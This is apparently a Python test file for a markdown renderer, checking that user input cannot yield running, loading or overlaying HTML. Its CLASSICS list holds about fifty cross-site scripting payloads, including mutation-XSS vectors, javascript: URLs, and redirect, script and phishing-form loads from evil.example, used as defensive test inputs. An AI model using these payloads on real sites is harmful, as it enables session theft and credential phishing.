"""What people type becomes HTML that cannot run, load, overlay or escape."""

from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from studyguide.markdown import ATTRIBUTES, CLASSES, MAX_CHARACTERS, TAGS, render_markdown

CLASSICS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<img src='javascript:alert(1)'>",
    '<img src="data:text/html;base64,PHNjcmlwdD4=">',
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<object data='javascript:alert(1)'></object><embed src=//evil.example>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href=' java\tscript:alert(1)'>x</a>",
    "<a href='java&#10;script:alert(1)'>x</a>",
    "<a href='&#x6A&#x61vascript:alert(1)'>x</a>",
    "<a href='vbscript:x'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "[x](javascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](//evil.example)",
    "[x](/\\evil.example)",
    "[x](\\\\evil.example)",
    "![x](https://evil.example/pixel.png)",
    "![x](//evil.example/pixel.png)",
    "![x](/static/../teach/questions/)",
    "[x]: javascript:alert(1)\n\n[x]",
    "<javascript:alert(1)>",
    "<style>body{display:none}</style>",
    "<p style='position:fixed;inset:0'>x</p>",
    "<div class='act dialog bar' id='main'>x</div>",
    "x {: onclick=alert(1) style=position:fixed id=main class=bar }",
    "<base href=//evil.example><meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<form action=//evil.example><input name=password><button>Log in</button></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<template><script>alert(1)</script></template>",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<!-- --!><script>alert(1)</script> -->",
    "<details ontoggle=alert(1) open><summary>x</summary></details>",
    "<video><source onerror=alert(1)></video><audio src onerror=alert(1)>",
    "<p hx-get=/account/logout/ hx-trigger=load data-shortcut=/>x</p>",
    "<b autofocus tabindex=1 contenteditable onfocus=alert(1)>x</b>",
    "`<script>alert(1)</script>`",
    "```html\n<script>alert(1)</script>\n```",
    "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(1)</x:script>",
    "<a id='</a><script>alert(1)</script>'>x</a>",
    "<img alt='\"><script>alert(1)</script>' src=/static/a.png>",
]


class Inventory(HTMLParser):
    """Every tag and attribute as a browser's parser would meet them."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict]] = []

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))

    handle_startendtag = handle_starttag


def tags_in(html: str) -> list[tuple[str, dict]]:
    inventory = Inventory()
    inventory.feed(html)
    inventory.close()
    return inventory.tags


def assert_harmless(html: str) -> None:
    for tag in ("div", "table", "details", "section", "pre", "a"):
        assert len(re.findall(f"<{tag}[ >]", html)) == html.count(f"</{tag}>"), tag
    for tag, attributes in tags_in(html):
        assert tag in TAGS, tag
        known = ATTRIBUTES["*"] | ATTRIBUTES.get(tag, set()) | {"rel"}
        if (tag, attributes.get("class")) == ("div", "scroll"):
            known = {"class", "tabindex", "role", "aria-label"}
        assert attributes.keys() <= known, (tag, attributes)
        assert attributes.get("id", "md-").startswith("md-")
        href = attributes.get("href") or ""
        assert re.match(r"(?:https?://|mailto:|#|/(?![/\\])|\?|$)", href, re.I), href
        assert (attributes.get("src") or "/static/").startswith("/static/")


@pytest.mark.parametrize("trusted", [True, False])
@pytest.mark.parametrize("attack", CLASSICS)
def test_a_classic_attack_becomes_harmless_text(attack, trusted):
    assert_harmless(render_markdown(attack, trusted=trusted))
    assert_harmless(render_markdown(f"- item\n\n    {attack}\n\n> {attack}", trusted=trusted))


MARKUP = st.sampled_from(
    [
        *CLASSICS,
        *("<", ">", '"', "'", "&", "&lt;", "&#60;", "\\", "`", "```", "~~~", "*", "**", "_", "#"),
        *(
            "\n",
            "\n\n",
            "    ",
            "\t",
            "- ",
            "1. ",
            "> ",
            "| ",
            "|---|",
            "[^1]",
            "[^1]: ",
            "[",
            "](",
        ),
        *(")", "{: ", "}", "///", "/// note | ", "++", "==", "^^", "<p ", "</p>", "<td>", "<math>"),
        *("<table class=note>", "<table>", "</table>", "<div>", "</div>", "<details>"),
        *("javascript:", "//evil.example", "\x00", "\x1b", "\u202e", "\ufeff", "迁移", "vMotion"),
    ]
)


@settings(max_examples=150, deadline=None)
@given(st.lists(MARKUP | st.text(max_size=12), max_size=24).map("".join))
def test_no_mixture_of_markup_gets_through(text):
    assert_harmless(render_markdown(text))


def test_what_is_no_markup_stays_readable():
    html = render_markdown("Enter <vm-name> here, then <script>x</script>.")

    assert "&lt;vm-name&gt;" in html
    assert "&lt;script&gt;" in html


def test_headings_begin_at_the_third_level_and_leave_no_gap():
    html = render_markdown("# One\n\n#### Two\n\n###### Three")

    assert [tag for tag, _ in tags_in(html)] == ["h3", "h4", "h5"]


def test_a_third_level_heading_stays_one():
    assert "<h3" in render_markdown("### Remember")


def test_ids_of_two_texts_on_one_page_stay_apart():
    text = "# Same\n\nA note[^1].\n\n[^1]: here"

    one, other = render_markdown(text, scope="a"), render_markdown(text, scope="b")

    ids = [attributes["id"] for _, attributes in tags_in(one + other) if "id" in attributes]
    assert len(ids) == len(set(ids)) == 6
    targets = [a["href"][1:] for _, a in tags_in(one + other) if a.get("href", "").startswith("#")]
    assert set(targets) <= set(ids)


def test_a_link_to_an_anchor_of_the_page_is_left_alone():
    assert 'href="#o6-03"' in render_markdown("[see](#o6-03)")


def test_a_wide_table_scrolls_in_a_box_the_keyboard_reaches():
    html = render_markdown("| a | b |\n|---|---|\n| 1 | 2 |")

    assert 'class="scroll" tabindex="0" role="group" aria-label=' in html
    assert html.count("<div") == html.count("</div") == 1


def test_a_table_with_attributes_opens_and_closes_its_box_once():
    html = render_markdown('<table class="note" id="x"><tr><td>1</td></tr></table>')

    assert html.count("<div") == html.count("</div") == 1


def test_a_checklist_is_read_as_text():
    html = render_markdown("- [x] done\n- [ ] open")

    assert "☑" in html
    assert "☐" in html
    assert "<input" not in html


def test_only_untrusted_links_turn_search_engines_away():
    assert "nofollow" in render_markdown("[x](https://example.org/)")
    assert "nofollow" not in render_markdown("[x](https://example.org/)", trusted=True)


@pytest.mark.parametrize(
    "text",
    ["[" * 50_000, ">" * 5_000, "- " * 3_000, "<b>" * 1_900, "\n#" * 20_000, "`" * 50_000],
    ids=["brackets", "quotes", "lists", "tags", "headings", "ticks"],
)
def test_a_text_built_to_break_the_parser_still_gives_a_page(text):
    assert_harmless(render_markdown(text))


def test_a_text_too_long_to_parse_is_shown_as_written():
    html = render_markdown("**b** <i>" * MAX_CHARACTERS)

    assert html.startswith('<pre class="as-written">**b** &lt;i&gt;')


@pytest.mark.parametrize("text", ["", "   ", "\n\n"])
def test_nothing_stays_nothing(text):
    assert render_markdown(text) == ""


def test_classes_of_the_page_itself_cannot_be_borrowed():
    html = render_markdown('<div class="dialog note act">x</div>')

    assert 'class="note"' in html
    assert CLASSES.isdisjoint({"dialog", "act", "bar", "toast"})


def test_a_name_stays_in_one_piece():
    html = render_markdown("esx-02运行，**web-01**与`esx-03`，2026-11-23，re-export，[DC-1](/x/)")

    assert html.count('class="id"') == 3
    assert '<span class="id">esx-02</span>运行' in html
    assert '<strong><span class="id">web-01</span></strong>' in html
    assert "<code>esx-03</code>" in html
